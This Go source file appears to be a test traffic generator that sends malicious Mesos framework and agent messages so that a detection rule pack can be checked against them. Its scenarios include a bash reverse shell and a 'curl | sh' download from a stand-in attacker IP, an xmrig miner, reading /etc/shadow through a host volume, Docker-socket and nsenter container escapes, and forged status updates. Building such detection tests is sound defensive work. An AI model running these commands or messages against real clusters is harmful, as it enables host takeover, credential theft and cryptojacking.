// rogue sends the libprocess messages of the rule pack's Mesos scenarios
// over mesos-go 0.0.6's own messenger (the libprocess HTTP framing a real
// framework or master uses), and plays the agent that receives them.
//
//	rogue -mode agent -ip 192.0.2.30 -port 5051 -timeout 60s
//	    a messenger slave(1)@IP:PORT that prints every message it is sent
//	rogue -mode send -ip SRC -scenario NAME -master master@IP:PORT -agent slave(1)@IP:PORT
//	    a messenger scheduler(1)@SRC:<ephemeral> that sends one scenario's
//	    messages, waits for replies a moment, and stops
//
// Scenarios (what the rule pack must flag): register-noprincipal,
// reregister-root, launch-privileged, launch-hostpath, launch-docker-sock,
// launch-docker-sock-cmd, launch-revshell, launch-curl-sh, launch-nsenter,
// launch-chroot, launch-root-user, launch-miner (LaunchTasksMessage to the
// master), runtask-agent, killtask-agent, shutdown-framework-agent,
// ping-agent (to the agent, from a PID that is not master@), status-forged
// (StatusUpdateMessage to the master), auth-burst (6 AuthenticateMessages).
// Built offline in GOPATH mode by gen_mesos.sh, like tests/mesos/.
package main

import (
	"flag"
	"fmt"
	"net"
	"os"
	"os/signal"
	"sort"
	"syscall"
	"time"

	"github.com/gogo/protobuf/proto"
	mesos "github.com/mesos/mesos-go/api/v0/mesosproto"
	util "github.com/mesos/mesos-go/api/v0/mesosutil"
	"github.com/mesos/mesos-go/api/v0/mesosutil/process"
	"github.com/mesos/mesos-go/api/v0/messenger"
	"github.com/mesos/mesos-go/api/v0/upid"
	"golang.org/x/net/context"
)

var (
	mode     = flag.String("mode", "send", "agent | send")
	ip       = flag.String("ip", "192.0.2.100", "address to bind and to put in the PID")
	port     = flag.Int("port", 5051, "agent mode: port")
	scenario = flag.String("scenario", "", "send mode: scenario name")
	master   = flag.String("master", "master@192.0.2.10:5050", "master PID")
	agent    = flag.String("agent", "slave(1)@192.0.2.30:5051", "agent PID")
	timeout  = flag.Duration("timeout", 60*time.Second, "agent mode: exit after this long")
)

const (
	frameworkID = "2f6e8c1a-5b3d-4e7f-9a0b-1c2d3e4f5a6b-0000"
	agentID     = "2f6e8c1a-5b3d-4e7f-9a0b-1c2d3e4f5a6b-S0"
	offerID     = "2f6e8c1a-5b3d-4e7f-9a0b-1c2d3e4f5a6b-O1"
	attacker    = "203.0.113.66"
)

func say(format string, args ...interface{}) {
	fmt.Printf("[rogue] "+format+"\n", args...)
}

func framework(user, principal string) *mesos.FrameworkInfo {
	fi := &mesos.FrameworkInfo{
		Name:     proto.String("rogue-framework"),
		User:     proto.String(user),
		Hostname: proto.String("rogue.example.test"),
		Id:       util.NewFrameworkID(frameworkID),
	}
	if principal != "" {
		fi.Principal = proto.String(principal)
	}
	return fi
}

// task builds a TaskInfo: a Docker container, the command, and options.
func task(command string, opts ...func(*mesos.TaskInfo)) *mesos.TaskInfo {
	t := &mesos.TaskInfo{
		Name:    proto.String("rogue-task"),
		TaskId:  util.NewTaskID("rogue-task-0001"),
		SlaveId: util.NewSlaveID(agentID),
		Resources: []*mesos.Resource{
			util.NewScalarResource("cpus", 0.1),
			util.NewScalarResource("mem", 32),
		},
		Command: &mesos.CommandInfo{Value: proto.String(command), Shell: proto.Bool(true)},
		Container: &mesos.ContainerInfo{
			Type:   mesos.ContainerInfo_DOCKER.Enum(),
			Docker: &mesos.ContainerInfo_DockerInfo{Image: proto.String("library/alpine:3.19")},
		},
	}
	for _, o := range opts {
		o(t)
	}
	return t
}

func privileged(t *mesos.TaskInfo) { t.Container.Docker.Privileged = proto.Bool(true) }

func volume(host string) func(*mesos.TaskInfo) {
	return func(t *mesos.TaskInfo) {
		t.Container.Volumes = append(t.Container.Volumes, &mesos.Volume{
			ContainerPath: proto.String("/mnt/host"),
			HostPath:      proto.String(host),
			Mode:          mesos.Volume_RW.Enum(),
		})
	}
}

func asUser(u string) func(*mesos.TaskInfo) {
	return func(t *mesos.TaskInfo) { t.Command.User = proto.String(u) }
}

// exec: CommandInfo without a shell, value + arguments (argv).
func exec(argv ...string) func(*mesos.TaskInfo) {
	return func(t *mesos.TaskInfo) {
		t.Command.Shell = proto.Bool(false)
		t.Command.Value = proto.String(argv[0])
		t.Command.Arguments = argv
	}
}

func launch(t *mesos.TaskInfo) proto.Message {
	return &mesos.LaunchTasksMessage{
		FrameworkId: util.NewFrameworkID(frameworkID),
		Tasks:       []*mesos.TaskInfo{t},
		Filters:     &mesos.Filters{},
		OfferIds:    []*mesos.OfferID{util.NewOfferID(offerID)},
	}
}

// scenarios: name -> (to the master or the agent, messages).
func scenarios(self string) map[string]struct {
	toAgent bool
	msgs    []proto.Message
} {
	type s = struct {
		toAgent bool
		msgs    []proto.Message
	}
	fid := util.NewFrameworkID(frameworkID)
	auth := make([]proto.Message, 6)
	for i := range auth {
		auth[i] = &mesos.AuthenticateMessage{Pid: proto.String(self)}
	}
	return map[string]s{
		"register-noprincipal": {false, []proto.Message{&mesos.RegisterFrameworkMessage{Framework: framework("nobody", "")}}},
		"reregister-root": {false, []proto.Message{&mesos.ReregisterFrameworkMessage{
			Framework: framework("root", "ops-principal"), Failover: proto.Bool(true)}}},
		"launch-privileged":  {false, []proto.Message{launch(task("sleep 30", privileged))}},
		"launch-hostpath":    {false, []proto.Message{launch(task("cat /mnt/host/shadow", volume("/etc")))}},
		"launch-docker-sock": {false, []proto.Message{launch(task("sleep 30", volume("/var/run/docker.sock")))}},
		"launch-docker-sock-cmd": {false, []proto.Message{launch(task(
			"curl -s --unix-socket /var/run/docker.sock http://localhost/containers/json"))}},
		"launch-revshell": {false, []proto.Message{launch(task("bash -i >& /dev/tcp/" + attacker + "/4444 0>&1"))}},
		"launch-curl-sh":  {false, []proto.Message{launch(task("curl -fsSL http://" + attacker + "/stage.sh | sh"))}},
		"launch-nsenter": {false, []proto.Message{launch(task("",
			exec("/usr/bin/nsenter", "-t", "1", "-m", "-u", "-i", "-n", "-p", "--", "/bin/sh")))}},
		"launch-chroot":    {false, []proto.Message{launch(task("chroot /host /bin/sh -c id"))}},
		"launch-root-user": {false, []proto.Message{launch(task("id -u", asUser("root")))}},
		"launch-miner": {false, []proto.Message{launch(task(
			"./xmrig --url stratum+tcp://" + attacker + ":3333 --donate-level 1"))}},
		"runtask-agent": {true, []proto.Message{&mesos.RunTaskMessage{
			FrameworkId: fid, Framework: framework("nobody", "ops-principal"), Pid: proto.String(self),
			Task: task("sleep 30")}}},
		"killtask-agent": {true, []proto.Message{&mesos.KillTaskMessage{
			FrameworkId: fid, TaskId: util.NewTaskID("segward-task-0001")}}},
		"shutdown-framework-agent": {true, []proto.Message{&mesos.ShutdownFrameworkMessage{FrameworkId: fid}}},
		"ping-agent":               {true, []proto.Message{&mesos.PingSlaveMessage{Connected: proto.Bool(false)}}},
		"status-forged": {false, []proto.Message{&mesos.StatusUpdateMessage{
			Update: &mesos.StatusUpdate{
				FrameworkId: fid,
				SlaveId:     util.NewSlaveID(agentID),
				Status: &mesos.TaskStatus{
					TaskId: util.NewTaskID("segward-task-0001"), State: mesos.TaskState_TASK_FINISHED.Enum(),
					SlaveId: util.NewSlaveID(agentID),
				},
				Timestamp: proto.Float64(float64(time.Now().Unix())),
				Uuid:      []byte("0123456789abcdef"),
			},
			Pid: proto.String(self)}}},
		"auth-burst": {false, auth},
	}
}

func send() int {
	bind := net.ParseIP(*ip)
	m, err := messenger.ForHostname(process.New("scheduler"), *ip, bind, 0, nil)
	if err != nil {
		fmt.Fprintln(os.Stderr, err)
		return 1
	}
	// Replies (FrameworkRegistered, offers, status updates, mechanisms) are
	// only printed.
	for _, pb := range []proto.Message{&mesos.FrameworkRegisteredMessage{}, &mesos.FrameworkReregisteredMessage{},
		&mesos.ResourceOffersMessage{}, &mesos.StatusUpdateMessage{}, &mesos.AuthenticationMechanismsMessage{},
		&mesos.FrameworkErrorMessage{}} {
		name := fmt.Sprintf("%T", pb)
		if err := m.Install(func(from *upid.UPID, _ proto.Message) { say("recv %s from %v", name, from) }, pb); err != nil {
			fmt.Fprintln(os.Stderr, err)
			return 1
		}
	}
	if err := m.Start(); err != nil {
		fmt.Fprintln(os.Stderr, err)
		return 1
	}
	defer m.Stop()
	self := m.UPID().String()
	all := scenarios(self)
	sc, ok := all[*scenario]
	if !ok {
		names := make([]string, 0, len(all))
		for n := range all {
			names = append(names, n)
		}
		sort.Strings(names)
		fmt.Fprintf(os.Stderr, "unknown scenario %q (have %v)\n", *scenario, names)
		return 2
	}
	to := *master
	if sc.toAgent {
		to = *agent
	}
	dest, err := upid.Parse(to)
	if err != nil {
		fmt.Fprintln(os.Stderr, err)
		return 1
	}
	for _, msg := range sc.msgs {
		if err := m.Send(context.TODO(), dest, msg); err != nil {
			fmt.Fprintf(os.Stderr, "send %T to %v: %v\n", msg, dest, err)
			return 1
		}
		say("%s: sent %T as %s to %v", *scenario, msg, self, dest)
	}
	time.Sleep(500 * time.Millisecond) // the sends are queued; let them (and any reply) go
	return 0
}

func agentMode() int {
	self := upid.UPID{ID: "slave(1)", Host: *ip, Port: fmt.Sprint(*port)}
	m := messenger.NewHttpWithBindingAddress(self, net.ParseIP(*ip))
	for _, pb := range []proto.Message{&mesos.RunTaskMessage{}, &mesos.KillTaskMessage{},
		&mesos.ShutdownFrameworkMessage{}, &mesos.ShutdownExecutorMessage{}, &mesos.PingSlaveMessage{},
		&mesos.UpdateFrameworkMessage{}, &mesos.ShutdownMessage{}} {
		name := fmt.Sprintf("%T", pb)
		if err := m.Install(func(from *upid.UPID, _ proto.Message) {
			say("agent: recv %s from %v", name, from)
		}, pb); err != nil {
			fmt.Fprintln(os.Stderr, err)
			return 1
		}
	}
	if err := m.Start(); err != nil {
		fmt.Fprintln(os.Stderr, err)
		return 1
	}
	say("agent listening as %v", m.UPID())
	sig := make(chan os.Signal, 1)
	signal.Notify(sig, syscall.SIGINT, syscall.SIGTERM)
	select {
	case <-sig:
	case <-time.After(*timeout):
	}
	m.Stop()
	return 0
}

func main() {
	flag.Set("logtostderr", "true")
	flag.Parse()
	if *mode == "agent" {
		os.Exit(agentMode())
	}
	os.Exit(send())
}
